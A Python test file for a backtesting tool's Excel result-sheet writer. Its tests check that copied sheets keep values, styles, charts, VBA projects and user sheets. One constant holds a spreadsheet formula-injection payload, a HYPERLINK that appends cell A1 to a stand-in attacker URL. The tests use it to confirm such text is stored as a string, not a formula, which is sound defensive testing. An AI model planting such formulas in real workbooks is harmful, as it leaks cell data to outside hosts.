"""Run Backtest's file side (FileBook.replace_result_sheets): the big BT_* sheets' rows go in as
XML (xlbridge.sheetrows), and the book read back is the one the cell-by-cell openpyxl copy
(the reference below, the implementation before issue 17) gives: values and types, number
formats and styles, widths, row heights, freeze panes, conditional formats, charts and their
series; text that looks like a formula stays text; an .xlsm keeps its VBA project; the user's
own sheets keep their values and styles; a sweep's ``only`` keeps the other BT_* sheets."""

from __future__ import annotations

import datetime as dt
import re
import shutil
from copy import copy
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Alignment, Font, PatternFill

from engine.errors import PosbtError
from engine.results.excel import write_results
from engine.workbook.text import formula_like
from tests.corpus.xlsm import MACRO_CT, content_types, make_xlsm, vba_bytes
from tests.unit.results.fakes import make_result, week_trades
from xlbridge.resultbooks import FileBook, result_sheet_names
from xlbridge.sheetrows import package_sheet_names, sheet_parts

TEMPLATE = Path(__file__).resolve().parents[3] / "workbook_templates" / "posbt_template.xlsx"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def reference_copy(results: Path, book: Path, only: tuple[str, ...] | None = None) -> None:
    """The BT_* sheets of ``results`` into ``book`` cell by cell through openpyxl (the
    implementation before the XML rows, plus row heights, which the XML rows carry)."""
    source = load_workbook(results)
    names = result_sheet_names(source.sheetnames, only)
    wb = load_workbook(book, keep_vba=book.suffix == ".xlsm")
    for name in result_sheet_names(wb.sheetnames, only):
        del wb[name]
    for name in names:
        src, dst = source[name], wb.create_sheet(name)
        for row in src.iter_rows():
            for c in row:
                t = dst.cell(row=c.row, column=c.column, value=c.value)
                if c.data_type != "f" and formula_like(c.value):
                    t.data_type = "s"
                if c.has_style:
                    t.font, t.fill, t.border = copy(c.font), copy(c.fill), copy(c.border)
                    t.alignment, t.protection = copy(c.alignment), copy(c.protection)
                    t.number_format = c.number_format
        for key, dim in src.column_dimensions.items():
            dst.column_dimensions[key].width = dim.width
        for idx, rdim in src.row_dimensions.items():
            if rdim.height is not None:
                dst.row_dimensions[idx].height = rdim.height
        dst.freeze_panes = src.freeze_panes
        for rng in src.conditional_formatting:
            for rule in rng.rules:
                dst.conditional_formatting.add(str(rng.sqref), rule)
        for chart in src._charts:
            dst.add_chart(chart, chart.anchor)
    wb.save(book)


def _color(c: Any) -> object:
    return None if c is None else (c.rgb, c.theme, c.indexed)


def cells(ws: Any) -> dict[str, tuple[object, ...]]:
    """Every cell with a value or a style: value, type, number format and its styles."""
    out: dict[str, tuple[object, ...]] = {}
    for row in ws.iter_rows():
        for c in row:
            if c.value is None and not c.has_style:
                continue
            f, fill, a, b = c.font, c.fill, c.alignment, c.border
            out[c.coordinate] = (
                c.value, c.data_type, c.number_format,
                f.b, f.i, f.sz, f.name, _color(f.color), fill.fill_type, _color(fill.fgColor),
                a.horizontal, a.vertical, a.wrap_text, b.bottom.style, b.top.style,
                c.protection.locked)
    return out


def layout(ws: Any) -> dict[str, object]:
    """Widths, heights, freeze panes, conditional formats and charts with their series refs."""
    charts = []
    for ch in ws._charts:
        series = [(s.tx.strRef.f if s.tx is not None and s.tx.strRef is not None else None,
                   s.val.numRef.f if s.val is not None else None,
                   s.cat.numRef.f if s.cat is not None and s.cat.numRef is not None else None)
                  for s in ch.series]
        marker = ch.anchor._from
        charts.append((type(ch).__name__, series, (marker.col, marker.row)))
    return {
        "widths": {k: d.width for k, d in ws.column_dimensions.items() if d.width},
        "heights": {k: d.height for k, d in ws.row_dimensions.items() if d.height},
        "freeze": ws.freeze_panes,
        "cf": sorted((str(r.sqref), [(x.type, x.priority) for x in r.rules])
                     for r in ws.conditional_formatting),
        "charts": charts,
    }


def _assert_same_sheets(got: Path, want: Path, names: list[str]) -> None:
    with ZipFile(got) as z:  # each row once, in order (Excel refuses a book otherwise)
        for name, part in sheet_parts(z).items():
            rows = [int(r) for r in re.findall(rb'<row[^>]*? r="(\d+)"', z.read(part))]
            assert rows == sorted(set(rows)), name
    a, b = load_workbook(got), load_workbook(want)
    assert a.sheetnames == b.sheetnames
    for name in names:
        assert cells(a[name]) == cells(b[name]), name
        assert layout(a[name]) == layout(b[name]), name


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run's results workbook named like a formula: 12 trades, hourly bars (BT_Greeks and
    BT_Breakevens some 600 rows: cut at 100 rows), band and equity charts."""
    res = make_result(EVIL, week_trades(12, start=dt.date(2024, 1, 1)), series=True)
    return write_results([res], tmp_path_factory.mktemp("res") / "results.xlsx")


@pytest.mark.parametrize("head_rows", [3, 100])
def test_the_book_read_back_is_the_cell_by_cell_copy(tmp_path: Path, results: Path,
                                                       head_rows: int) -> None:
    # head_rows 3 cuts every sheet, those openpyxl wrote too (BT_Summary: shared strings,
    # fonts, wrapped rows); 100 (the default) cuts the data tables, whose rows the engine
    # streamed (inline strings, one number format a column)
    book, ref = tmp_path / "book.xlsx", tmp_path / "ref.xlsx"
    shutil.copy(TEMPLATE, book)
    shutil.copy(TEMPLATE, ref)
    fb = FileBook(book)
    fb.head_rows = head_rows
    names = fb.replace_result_sheets(results)
    reference_copy(results, ref)
    assert names == [n for n in load_workbook(results).sheetnames if n.startswith("BT_")]
    _assert_same_sheets(book, ref, names)
    out = load_workbook(book)
    src = load_workbook(results)
    # and those are the results workbook's own cells (values of a 600-row table included)
    for name in ("BT_Trades", "BT_Fills", "BT_Greeks", "BT_Breakevens"):
        assert [[c.value for c in r] for r in out[name].iter_rows()] == \
            [[c.value for c in r] for r in src[name].iter_rows()], name
    assert out["BT_Greeks"].max_row == src["BT_Greeks"].max_row > 500  # really cut
    # the charts' series name their own sheet
    for name in ("BT_Equity", "BT_Breakevens"):
        refs = [s for ch in layout(out[name])["charts"] for s in ch[1]]  # type: ignore[attr-defined]
        assert refs and all(f"'{name}'!" in (v or "") for s in refs for v in s if v), name
    assert out["BT_Monthly"].conditional_formatting  # the colour scale came along
    # the sheet's dimension covers its cut rows (Excel sizes its scroll bars from it)
    with ZipFile(book) as z, ZipFile(results) as r:
        mine, theirs = sheet_parts(z)["BT_Greeks"], sheet_parts(r)["BT_Greeks"]
        dims = [re.search(rb'<dimension ref="([^"]+)"', a.read(p))[1]  # type: ignore[index]
                for a, p in ((z, mine), (r, theirs))]
    assert dims[0] == dims[1]


def test_formula_like_text_stays_text_in_the_cut_rows(tmp_path: Path, results: Path) -> None:
    book = tmp_path / "book.xlsx"
    shutil.copy(TEMPLATE, book)
    FileBook(book).replace_result_sheets(results)
    wb = load_workbook(book)
    evil = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert {c.parent.title for c in evil} >= {"BT_Summary", "BT_Trades", "BT_Greeks"}
    assert max(c.row for c in evil if c.parent.title == "BT_Greeks") > 100  # a cut row
    assert {c.data_type for c in evil} == {"s"}
    with ZipFile(book) as z:
        for part in sheet_parts(z).values():
            assert b"<f>" not in z.read(part)  # no formula anywhere


def _plain_book(path: Path, bt_rows: int = 0) -> Path:
    """A user's book: a config sheet with styled cells (and a previous run's BT_Trades of
    ``bt_rows`` rows, shared strings and formats as openpyxl writes them)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Config"
    ws["A1"], ws["B1"], ws["A2"], ws["B2"] = "name", "lots", "mine", 3
    ws["A1"].font = Font(bold=True, color="FF0000")
    ws["B2"].number_format = "0.0"
    ws.column_dimensions["A"].width = 33
    if bt_rows:
        bt = wb.create_sheet("BT_Trades")
        for r in range(1, bt_rows + 1):
            bt.append([f"trade {r}", r * 1.5, dt.datetime(2024, 1, 1, 9, 15) + dt.timedelta(r)])
            bt.cell(r, 2).number_format = "#,##0.00"
            bt.cell(r, 3).number_format = "yyyy-mm-dd hh:mm"
            if r % 7 == 0:
                bt.cell(r, 1).font = Font(italic=True)
                bt.cell(r, 1).fill = PatternFill("solid", fgColor="FFFF00")
                bt.cell(r, 1).alignment = Alignment(wrap_text=True)
        bt.freeze_panes = "A2"
    wb.save(path)
    return path


_INLINE = re.compile(rb'<c([^>]*?) t="inlineStr"([^>]*)><is>(.*?)</is></c>', re.DOTALL)
_EXCEL_NS = (b' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
             b' xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac"'
             b' mc:Ignorable="x14ac"')


def as_excel_saves(path: Path) -> Path:
    """``path`` rewritten the way Excel saves a book (openpyxl writes inline strings only):
    text in a shared-string table, ``x14ac:dyDescent`` on every row (its namespace declared on
    the sheet's root) and a dynamic-array ``cm`` on a cell."""
    with ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
        sheets = set(sheet_parts(z).values())
    table: list[bytes] = []

    def shared(m: re.Match[bytes]) -> bytes:
        table.append(m[3])
        return b"<c" + m[1] + b' t="s"' + m[2] + b"><v>%d</v></c>" % (len(table) - 1)

    for name in sheets:
        xml = _INLINE.sub(shared, parts[name])
        xml = xml.replace(b"<row ", b'<row x14ac:dyDescent="0.25" ')
        xml = re.sub(rb'<c r="B2"', b'<c r="B2" cm="1"', xml)
        parts[name] = re.sub(rb"<worksheet ([^>]*)>", lambda m: b"<worksheet " + m[1] +
                             _EXCEL_NS + b">", xml, count=1)
    parts["xl/sharedStrings.xml"] = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" '
        b'uniqueCount="%d">' % (len(table), len(table))
        + b"".join(b"<si>" + t + b"</si>" for t in table) + b"</sst>")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.'
        b'org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        b"</Relationships>")
    with ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def _sweep_results(path: Path, rows: int) -> Path:
    wb = Workbook()
    wb.active.title = "Config"
    ws = wb.create_sheet("BT_Sweep")
    ws.append(["variant", "pnl_inr", EVIL])
    ws["A1"].font = Font(bold=True)
    for r in range(rows):
        ws.append([f"v{r}", r - 10.25, "+1" if r % 2 else "@x"])
        ws.cell(r + 2, 2).number_format = "#,##0.00;[Red]-#,##0.00"
    for row in ws.iter_rows():  # as the engine writes text (openpyxl takes "=" for a formula)
        for c in row:
            if formula_like(c.value):
                c.data_type = "s"
    wb.create_sheet("BT_SweepStats")["A1"] = "stats"
    wb.create_sheet("BT_Other")["A1"] = "not the sweep's"
    wb.save(path)
    return path


def test_a_sweep_keeps_the_other_bt_sheets_and_the_users_sheets(tmp_path: Path) -> None:
    # the book, saved by Excel, holds a previous backtest's BT_Trades (40 rows, cut at 5 and
    # copied back as XML: its shared strings become inline strings, its styles stay the
    # book's own, the attributes openpyxl's sheet cannot declare go)
    book = as_excel_saves(_plain_book(tmp_path / "book.xlsx", bt_rows=40))
    ref = shutil.copy(book, tmp_path / "ref.xlsx")
    before = load_workbook(book)
    assert before["BT_Trades"]["A40"].value == "trade 40"  # read through the string table
    kept = {s: (cells(before[s]), layout(before[s])) for s in ("Config", "BT_Trades")}
    sweep = as_excel_saves(_sweep_results(tmp_path / "sweep.xlsx", rows=30))
    fb = FileBook(book)
    fb.head_rows = 5
    only = ("BT_Sweep", "BT_SweepStats")
    assert fb.replace_result_sheets(sweep, only=only) == ["BT_Sweep", "BT_SweepStats"]
    reference_copy(sweep, Path(ref), only=only)
    out = load_workbook(book)
    assert out.sheetnames == ["Config", "BT_Trades", "BT_Sweep", "BT_SweepStats"]
    assert {s: (cells(out[s]), layout(out[s])) for s in kept} == kept
    _assert_same_sheets(book, Path(ref), ["BT_Sweep", "BT_SweepStats"])
    assert out["BT_Sweep"]["C1"].data_type == "s" and out["BT_Sweep"]["C3"].value == "+1"
    assert {out["BT_Sweep"].cell(r, 3).data_type for r in range(1, 32)} == {"s"}


def test_a_merged_range_into_the_cut_rows_loads_that_sheet_whole(tmp_path: Path) -> None:
    # openpyxl makes cells for a merged range and a hyperlink: rows 10-12 and 20 would be
    # written twice (its cells and the XML) if BT_Sweep were cut at row 5
    sweep = _sweep_results(tmp_path / "sweep.xlsx", rows=30)
    wb = load_workbook(sweep)
    wb["BT_Sweep"].merge_cells("D10:E12")
    wb["BT_Sweep"]["A20"].hyperlink = "http://example.com/"
    wb.save(sweep)
    book = _plain_book(tmp_path / "book.xlsx")
    ref = Path(shutil.copy(book, tmp_path / "ref.xlsx"))
    fb = FileBook(book)
    fb.head_rows = 5
    fb.replace_result_sheets(sweep)
    reference_copy(sweep, ref)
    _assert_same_sheets(book, ref, ["BT_Sweep", "BT_SweepStats", "BT_Other"])
    assert load_workbook(book)["BT_Sweep"]["A31"].value == "v29"


def test_a_second_run_replaces_the_big_sheets(tmp_path: Path, results: Path) -> None:
    book, ref = tmp_path / "book.xlsx", tmp_path / "ref.xlsx"
    shutil.copy(TEMPLATE, book)
    FileBook(book).replace_result_sheets(results)
    shutil.copy(book, ref)
    other = write_results([make_result("Other", week_trades(3))], tmp_path / "other.xlsx")
    FileBook(book).replace_result_sheets(other)  # the old rows were never loaded as cells
    reference_copy(other, ref)
    names = [n for n in package_sheet_names(book) if n.startswith("BT_")]
    _assert_same_sheets(book, ref, names)
    assert load_workbook(book)["BT_Trades"].max_row == 4  # header and 3 trades, nothing left


def test_an_xlsm_keeps_its_vba_project_and_content_type(tmp_path: Path, results: Path) -> None:
    book = make_xlsm(_plain_book(tmp_path / "plain.xlsx"), tmp_path / "book.xlsm")
    vba = vba_bytes(book)
    assert vba
    config = cells(load_workbook(book)["Config"])
    FileBook(book).replace_result_sheets(results)
    assert vba_bytes(book) == vba and MACRO_CT in content_types(book)
    out = load_workbook(book, keep_vba=True)
    assert cells(out["Config"]) == config
    assert out["BT_Greeks"].max_row > 500


def test_a_results_file_that_is_no_workbook_is_named(tmp_path: Path) -> None:
    book = _plain_book(tmp_path / "book.xlsx")
    bad = tmp_path / "results.xlsx"
    bad.write_bytes(b"not a zip")
    with pytest.raises(PosbtError, match="cannot be read") as err:
        FileBook(book).replace_result_sheets(bad)
    assert err.value.place == str(bad)
